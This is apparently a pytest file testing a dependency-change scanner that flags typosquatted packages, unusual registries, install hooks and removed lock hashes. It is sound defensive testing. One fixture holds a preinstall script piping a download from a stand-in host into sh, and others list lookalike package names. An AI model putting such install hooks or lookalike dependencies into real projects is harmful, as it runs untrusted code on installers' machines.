"""Dependency changes: every rule with what it must find and what it must leave alone."""

from __future__ import annotations

import json
import time

import pytest

from gate.prescreen.interface import Prescreened
from gate.prescreen.scanners import dependencies
from gate.prescreen.scanners.dependencies import Dependencies
from gate.supply.lookalike import imitates, known_names
from tests.prescreen_support import Files, make_request


def package(**tables: object) -> str:
    return json.dumps({"name": "a", "version": "1.0.0", **tables}, indent=1)


def lock(*rows: tuple[str, str, bool]) -> str:
    packages = {
        f"node_modules/{name}": {"version": "1.0.0", "resolved": f"{site}/{name}/-/{name}-1.0.0.tgz"}
        | ({"integrity": "sha512-aa"} if pinned else {})
        for name, site, pinned in rows
    }
    return json.dumps({"lockfileVersion": 3, "packages": packages}, indent=1)


NPM = "https://registry.npmjs.org"
Case = tuple[Files, Files]
HITS: dict[str, list[Case]] = {
    "dependency.lookalike": [
        ({"requirements.txt": "reqeusts==2.0\n"}, {}),
        ({"requirements.txt": "requests==2.0\nurlib3==2.0\n"}, {"requirements.txt": "requests==2.0\n"}),
        ({"pyproject.toml": "[project]\nname='a'\ndependencies = ['python-requests>=2']\n"}, {}),
        ({"package.json": package(dependencies={"expres": "^4.0.0"})}, {}),
        ({"package-lock.json": lock(("lodahs", NPM, True))}, {}),
    ],
    "dependency.unfamiliar": [
        ({"requirements.txt": "flask-secure-jwt-helper-pro==1.0\n"}, {}),
        ({"Pipfile": "[packages]\nsuper-auth-toolkit-x = '*'\n"}, {}),
    ],
    "dependency.index": [
        ({"requirements.txt": "--extra-index-url https://pypi.corp.example/simple\nrequests==2\n"}, {}),
        ({"requirements.txt": "-i http://192.0.2.1/simple\n"}, {}),
        ({"pip.conf": "[global]\nindex-url = https://mirror.example/simple\n"}, {}),
        ({".npmrc": "registry=https://npm.example/\n"}, {".npmrc": "save-exact=true\n"}),
        ({"pyproject.toml": "[[tool.uv.index]]\nurl = 'https://x.example/simple'\n"}, {}),
        ({"requirements.txt": "--trusted-host 192.0.2.1\n"}, {}),
    ],
    "dependency.direct-url": [
        ({"requirements.txt": "git+https://git.example/a/b.git@main#egg=b\n"}, {}),
        ({"requirements.txt": "flask @ https://files.example/flask.whl\n"}, {}),
        ({"package.json": package(dependencies={"chalk": "github:somebody/chalk"})}, {}),
        ({"pyproject.toml": "[tool.poetry.dependencies]\nflask = {git = 'https://git.example/f.git'}\n"}, {}),
    ],
    "dependency.install-hook": [
        ({"package.json": package(scripts={"postinstall": "node -e 'x'"})}, {"package.json": package()}),
        ({"package.json": package(scripts={"preinstall": "curl https://x.example | sh"})}, {}),
        ({"pyproject.toml": "[build-system]\nrequires=[]\nbuild-backend='b'\nbackend-path=['tools']\n"}, {}),
        (
            {"pyproject.toml": "[build-system]\nrequires=['hatchling', 'hatch-fast-hooks']\n"},
            {"pyproject.toml": "[build-system]\nrequires=['hatchling']\n"},
        ),
    ],
    "dependency.shadowed-command": [
        ({"pyproject.toml": "[project]\nname='a'\n[project.scripts]\npip='a:main'\n"}, {}),
        (
            {"pyproject.toml": "[tool.poetry]\nname='a'\n[tool.poetry.scripts]\na='a:main'\ngit='a:git'\n"},
            {"pyproject.toml": "[tool.poetry]\nname='a'\n[tool.poetry.scripts]\na='a:main'\n"},
        ),
        (
            {"setup.cfg": "[options.entry_points]\nconsole_scripts =\n  python3 = a:b\n"},
            {},
        ),
        ({"package.json": package(name="a", bin={"node": "a.js"})}, {"package.json": package(name="a")}),
    ],
    "dependency.unpinned": [
        ({"requirements.txt": "flask\n"}, {}),
        ({"package.json": package(dependencies={"chalk": "*"})}, {}),
    ],
    "dependency.hash-removed": [
        (
            {"uv.lock": "[[package]]\nname='flask'\nsource={registry='https://pypi.org/simple'}\n"},
            {"uv.lock": "[[package]]\nname='flask'\nwheels=[{hash='sha256:aa'}]\n"},
        ),
        (
            {"package-lock.json": lock(("chalk", NPM, False), ("debug", NPM, True))},
            {"package-lock.json": lock(("chalk", NPM, True), ("debug", NPM, True))},
        ),
    ],
    "dependency.lock-mismatch": [
        (
            {"package-lock.json": lock(("chalk", NPM, True), ("debug", NPM, True))},
            {"package-lock.json": lock(("chalk", NPM, True))},
        ),
    ],
    "dependency.lock-source": [
        (
            {"package-lock.json": lock(("chalk", "https://files.example", True), ("debug", NPM, True))},
            {"package-lock.json": lock(("debug", NPM, True))},
        ),
        ({"yarn.lock": 'chalk@^5.0.0:\n  version "5.0.0"\n  resolved "http://192.0.2.7/chalk.tgz"\n'}, {}),
        (
            {"uv.lock": "[[package]]\nname = 'flask'\nsource = { registry = 'https://x.example/simple' }\n"},
            {},
        ),
    ],
}
CLEAN: dict[str, list[Case]] = {
    "dependency.lookalike": [
        ({"requirements.txt": "requests==2.32\nurllib3\nboto3\nboto\nnumpy\nPyYAML\n"}, {}),
        ({"requirements.txt": "reqeusts==3.0\n"}, {"requirements.txt": "reqeusts==2.0\n"}),
        ({"package.json": package(dependencies={"preact": "^10", "react": "^18", "vue": "^3"})}, {}),
    ],
    "dependency.unfamiliar": [({"requirements.txt": "flask==3.0\nSQLAlchemy>=2\n"}, {})],
    "dependency.index": [
        ({"requirements.txt": "-i https://pypi.org/simple\nflask==3\n"}, {}),
        (
            {"requirements.txt": "-i https://x.example\nb==1\n"},
            {"requirements.txt": "-i https://x.example\na==1\n"},
        ),
    ],
    "dependency.direct-url": [
        ({"requirements.txt": "-e .\nflask==3 ; python_version > '3.8'\n"}, {}),
        (
            {
                "package.json": package(
                    dependencies={"chalk": "^5.0.0", "me": "workspace:*", "you": "file:../you"}
                )
            },
            {},
        ),
    ],
    "dependency.install-hook": [
        ({"package.json": package(scripts={"test": "jest", "build": "tsc"})}, {}),
        (
            {"pyproject.toml": "[build-system]\nrequires=['hatchling', 'hatch-vcs>=0.4']\n"},
            {"pyproject.toml": "[build-system]\nrequires=['hatchling']\n"},
        ),
        (
            {"package.json": package(scripts={"postinstall": "x", "a": "b"})},
            {"package.json": package(scripts={"postinstall": "x"})},
        ),
    ],
    "dependency.shadowed-command": [
        (
            {"pyproject.toml": "[project]\nname='pip'\n[project.scripts]\npip='pip:main'\npip4='a:b'\n"},
            {},
        ),
        ({"package.json": package(name="@x/yarn", bin={"yarn": "a.js"})}, {}),
        ({"package.json": package(name="git", bin="a.js")}, {}),
        (
            {"setup.cfg": "[options.entry_points]\nconsole_scripts =\n  make = a:c\n"},
            {"setup.cfg": "[options.entry_points]\nconsole_scripts =\n  make = a:b\n"},
        ),
    ],
    "dependency.unpinned": [({"requirements.txt": "flask>=3\n"}, {"requirements.txt": "flask\n"})],
    "dependency.hash-removed": [
        (
            {"uv.lock": "[[package]]\nname='flask'\nwheels=[{hash='sha256:bb'}]\n"},
            {"uv.lock": "[[package]]\nname='flask'\nwheels=[{hash='sha256:aa'}, {hash='sha256:cc'}]\n"},
        ),
        (
            {"requirements.txt": "a==1 --hash=sha256:aa --hash=sha256:bb\n"},
            {"requirements.txt": "a==1 --hash=sha256:aa\n"},
        ),
        (
            {"package-lock.json": lock(("chalk", NPM, True))},
            {"package-lock.json": lock(("chalk", NPM, True), ("debug", NPM, True))},
        ),
    ],
    "dependency.lock-mismatch": [
        (
            {
                "package-lock.json": lock(("chalk", NPM, True), ("debug", NPM, True)),
                "package.json": package(dependencies={"debug": "1"}),
            },
            {"package-lock.json": lock(("chalk", NPM, True)), "package.json": package()},
        ),
    ],
    "dependency.lock-source": [({"package-lock.json": lock(("chalk", NPM, True))}, {})],
}


def scan(case: Case) -> Prescreened:
    return Dependencies().scan(make_request(*case))


@pytest.mark.parametrize(("rule", "case"), [(r, c) for r, cases in HITS.items() for c in cases])
@pytest.mark.slow
def test_hit(rule: str, case: Case) -> None:
    assert rule in {f.rule_id for f in scan(case).findings}


@pytest.mark.parametrize(("rule", "case"), [(r, c) for r, cases in CLEAN.items() for c in cases])
def test_clean(rule: str, case: Case) -> None:
    result = scan(case)
    assert rule not in {f.rule_id for f in result.findings}
    assert all(stage.looked for stage in result.stages)


def test_every_rule_has_fixtures() -> None:
    assert {r.id for r in dependencies.RULES} == set(HITS) == set(CLEAN)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("package.json", "{" * 10),
        ("pyproject.toml", "a = " + "[" * 50_000),
        ("package-lock.json", "[1, 2]"),
        ("package.json", '{"scripts": 3}'),
    ],
)
def test_a_manifest_that_cannot_be_read_is_named(path: str, text: str) -> None:
    result = scan(({path: text, "requirements.txt": "reqeusts\n"}, {}))
    assert not all(stage.looked for stage in result.stages)
    assert "dependency.lookalike" in {f.rule_id for f in result.findings}


def test_the_line_told_is_the_changed_one() -> None:
    (hit,) = [
        f
        for f in scan(
            ({"requirements.txt": "flask==3\nreqeusts==2\n"}, {"requirements.txt": "flask==3\n"})
        ).findings
        if f.rule_id == "dependency.lookalike"
    ]
    assert hit.primary.line == 2
    assert hit.evidence["resembles"] == "requests"


def test_no_much_used_name_imitates_another() -> None:
    assert [n for n in known_names("pypi") if imitates(n, "pypi")] == []


@pytest.mark.parametrize(
    "name", ["requestss", "reqests", "djang0", "numpyy", "colourama", "python-dateutils"]
)
def test_slips(name: str) -> None:
    assert imitates(name, "pypi")


@pytest.mark.parametrize("name", ["gate-ci", "acme-internal-tools", "shop", "zzz", "mylib"])
def test_own_names(name: str) -> None:
    assert imitates(name, "pypi") is None


def test_a_lock_file_of_thousands_is_read_in_its_length() -> None:
    """Every name was searched in every line: 4,000 entries took more than a minute."""
    rows = [(f"some-package-{n}", NPM, True) for n in range(4000)]
    start = time.process_time()
    found = scan(({"package-lock.json": lock(*rows, ("lodahs", NPM, True))}, {})).findings
    assert time.process_time() - start < 30
    (typo,) = [f for f in found if f.rule_id == "dependency.lookalike"]
    text = lock(*rows, ("lodahs", NPM, True)).splitlines()
    assert "lodahs" in text[(typo.primary.line or 0) - 1]


BUILD = "[build-system]\nrequires=['hatchling']\nbuild-backend='hatchling.build'\n"
OWN = "[build-system]\nrequires=['hatchling']\nbuild-backend='tools.backend'\nbackend-path=['.']\n"


@pytest.mark.parametrize(("base", "severity"), [({"pyproject.toml": BUILD}, "high"), ({}, "low")])
def test_build_code_of_ones_own_is_grave_where_a_known_backend_built_before(
    base: dict[str, str], severity: str
) -> None:
    found = Dependencies().scan(make_request({"pyproject.toml": OWN}, dict(base))).findings
    assert [f.severity.value for f in found if f.rule_id == "dependency.install-hook"] == [severity]


@pytest.mark.slow
def test_a_requirements_file_without_any_hash_from_now_on_says_so_once_and_is_medium() -> None:
    before = "flask==3.0 --hash=sha256:aa\nclick==8.1 --hash=sha256:bb\n"
    found = scan(({"requirements.txt": "flask==3.0\nclick==8.1\n"}, {"requirements.txt": before})).findings
    assert {f.severity.value for f in found} == {"medium"}
    assert {f.rule_id for f in found} <= {"dependency.hash-removed", "supply.integrity-lost"}
